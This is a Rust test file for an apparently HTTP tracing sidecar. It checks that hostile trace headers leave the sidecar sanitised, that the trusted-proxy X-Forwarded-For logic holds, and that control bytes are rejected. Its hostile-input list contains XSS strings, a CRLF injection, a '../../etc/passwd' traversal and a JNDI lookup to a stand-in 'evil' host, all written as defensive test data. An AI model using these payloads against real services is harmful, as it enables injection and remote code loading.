//! Hostile header values, and facts about the client that the client made up.

use crate::support::client::{Client, Request};
use crate::support::sidecar::Options;
use crate::support::trace::{Carried, PARENT, ROOT};
use crate::support::world::{ALWAYS, World};

/// Values that somebody might hope to get further than here.
fn hostile() -> Vec<Vec<u8>> {
    let mut values: Vec<Vec<u8>> = [
        "<script>alert(1)</script>".to_owned(),
        "Root=<script>alert(1)</script>;Parent=<img src=x onerror=alert(1)>;Sampled=1".to_owned(),
        format!("Root={ROOT};Parent={PARENT};Sampled=1;<svg/onload=alert(1)>=x"),
        format!("Root={ROOT}\";Parent={PARENT};Sampled=1"),
        format!("Root={ROOT}%0d%0aX-Injected:1;Parent={PARENT};Sampled=1"),
        format!("Root={ROOT};Sampled=1;a={}", "a".repeat(6 * 1024)),
        format!("Root={ROOT};{}Sampled=1", "k=v;".repeat(1500)),
        format!("{};Root={ROOT}", "Root=1-5759e988-bd862e3fe1be46a994272793".repeat(100)),
        format!("Root={ROOT};Parent={PARENT};Sampled=1;Root=../../etc/passwd"),
        format!("Root={ROOT};\tSampled=1;\tx\t=\ty"),
        "Root=1-\u{ff15}759e988-bd862e3fe1be46a994272793;Sampled=1".to_owned(),
        format!("Root={ROOT};Lineage=${{jndi:ldap://evil/a}};Sampled=1"),
        ";".repeat(6000),
        "=".repeat(6000),
    ]
    .into_iter()
    .map(String::into_bytes)
    .collect();
    let mut odd = format!("Root={ROOT};Sampled=1;Odd=").into_bytes();
    odd.extend(0x80..=0xff_u8);
    values.push(odd);
    values
}

/// What went out must be canonical, once, and short; what it says besides is checked by `Carried`.
#[track_caller]
fn check_one_clean_header(world: &World, request: &Request) -> Carried {
    let response = world.send(request);
    assert_eq!(response.status, 200, "{request:?}");
    let seen = world.upstream.last();
    let value = seen.header("x-amzn-trace-id").expect("exactly one");
    assert!(value.len() <= 1024, "{} bytes after {request:?}", value.len());
    assert!(value.bytes().all(|byte| matches!(byte, b' '..=b'~')), "{value:?}");
    for header in response.values("x-amzn-trace-id") {
        assert!(header.len() <= 64 && header.bytes().all(|byte| matches!(byte, b'!'..=b'~')), "{header:?}");
    }
    Carried::by(&seen)
}

#[test]
fn hostile_trace_headers_leave_as_one_clean_one() {
    let mut world = World::start(|options| options.rules(ALWAYS).arg("--response-header"));
    let values = hostile();
    for value in &values {
        check_one_clean_header(&world, &Request::get("/").trace(value));
        check_one_clean_header(&world, &Request::get("/").header("traceparent", value));
        check_one_clean_header(
            &world,
            &Request::get("/").trace(value).header("traceparent", value).header("tracestate", value),
        );
    }
    // A document for each, and each is JSON of X-Ray's grammar whatever came.
    for datagram in world.stop() {
        let document = datagram.document();
        assert!(crate::support::trace::is_root(document["trace_id"].as_str().unwrap()), "{document}");
        assert!(!datagram.text().contains("<script") && !datagram.text().contains("jndi"), "{document}");
    }
}

#[test]
fn of_several_trace_headers_one_leaves() {
    let world = World::ruled(ALWAYS);
    let values = hostile();
    for (first, second) in values.iter().zip(values.iter().rev()) {
        check_one_clean_header(&world, &Request::get("/").trace(first).trace(second).trace(first));
        let request = Request::get("/").header("x-amzn-trace-id", first).header("X-AMZN-TRACE-ID", second);
        check_one_clean_header(&world, &request);
    }
}

#[test]
fn no_connection_header_takes_trace_or_forwarding_headers_along() {
    let world = World::ruled(ALWAYS);
    let names = [
        "x-amzn-trace-id",
        "traceparent",
        "tracestate",
        "x-forwarded-for",
        "x-forwarded-proto",
        "x-forwarded-host",
        "host",
    ];
    let all = names.join(", ");
    for connection in
        names.into_iter().chain([all.as_str(), "close, X-Amzn-Trace-Id", " ,TRACEPARENT,, X-Forwarded-For"])
    {
        let request = Request::get("/")
            .header("Connection", connection)
            .trace(format!("Root={ROOT};Parent={PARENT};Sampled=0"))
            .header("tracestate", "a=b")
            .header("X-Forwarded-For", "10.1.1.1");
        let carried = check_one_clean_header(&world, &request);
        assert_eq!((carried.root.as_str(), carried.sampled), (ROOT, false), "after Connection: {connection}");
        let seen = world.upstream.last();
        assert_eq!(seen.header("tracestate").as_deref(), Some("a=b"), "after Connection: {connection}");
        assert_eq!(seen.header("x-forwarded-for").as_deref(), Some("10.1.1.1, 127.0.0.1"), "{connection}");
        assert_eq!(
            seen.header("x-forwarded-proto").as_deref(),
            Some("http"),
            "after Connection: {connection}"
        );
        assert_eq!(
            seen.header("x-forwarded-host").as_deref(),
            Some("app.test"),
            "after Connection: {connection}"
        );
    }
}

#[test]
fn control_bytes_in_a_header_are_refused_and_reach_nobody() {
    let world = World::ruled(ALWAYS);
    for byte in (0..0x20_u8).filter(|byte| !b"\t\n\r".contains(byte)).chain([0x7f]) {
        let mut client = Client::connect(world.sidecar.listen);
        let mut request = b"GET / HTTP/1.1\r\nHost: app.test\r\nX-Amzn-Trace-Id: Root=".to_vec();
        request.push(byte);
        request.extend_from_slice(b"\r\n\r\n");
        client.say(&request).unwrap();
        let response = client.read("GET").unwrap();
        assert_eq!(response.status, 400, "byte {byte:#x}");
        assert!(client.ends_silently(), "after byte {byte:#x}");
    }
    assert_eq!(world.upstream.n_seen(), 0);
}

/// What the document says of the client after these `X-Forwarded-For` fields.
#[track_caller]
fn check_client(trust: &str, forwarded: &[&str], address: &str, by_word: bool) {
    let world = World::start(|options: Options| options.rules(ALWAYS).args(&["--trust", trust]));
    let request =
        forwarded.iter().fold(Request::get("/"), |request, value| request.header("X-Forwarded-For", value));
    let document = world.record(&request);
    let http = &document["http"]["request"];
    assert_eq!(http["client_ip"], address, "{trust} {forwarded:?}: {document}");
    assert_eq!(http["x_forwarded_for"] == true, by_word, "{trust} {forwarded:?}: {document}");
}

#[test]
fn a_client_is_who_a_trusted_proxy_says_and_nobody_else() {
    check_client("internal", &[], "127.0.0.1", false);
    check_client("internal", &["8.8.8.8"], "8.8.8.8", true);
    // What stands before the first stranger is that stranger's invention.
    check_client("internal", &["1.1.1.1, 8.8.8.8"], "8.8.8.8", true);
    check_client("internal", &["1.1.1.1", "8.8.8.8, 10.0.0.1"], "8.8.8.8", true);
    check_client("internal", &["10.6.6.6, 8.8.8.8"], "8.8.8.8", true);
    check_client("internal", &["8.8.8.8, not an address"], "127.0.0.1", false);
    check_client("none", &["8.8.8.8"], "127.0.0.1", false);
    check_client("10.0.0.0/8", &["8.8.8.8"], "127.0.0.1", false);
    check_client("127.0.0.0/8", &["1.1.1.1, 10.0.0.1"], "10.0.0.1", true);
    check_client("all", &["1.1.1.1, 10.0.0.1"], "1.1.1.1", true);
}

#[test]
fn forwarded_scheme_and_host_are_handed_on_and_not_recorded() {
    let world = World::ruled(ALWAYS);
    let request =
        Request::get("/cart").header("X-Forwarded-Proto", "https").header("X-Forwarded-Host", "evil.example");
    let document = world.record(&request);
    assert_eq!(document["http"]["request"]["url"], "http://app.test/cart", "{document}");
    let seen = world.upstream.last();
    assert_eq!(seen.header("x-forwarded-host").as_deref(), Some("evil.example"));
    assert_eq!(seen.header("x-forwarded-proto").as_deref(), Some("https"));
    assert_eq!(seen.header("host").as_deref(), Some("app.test"));
}
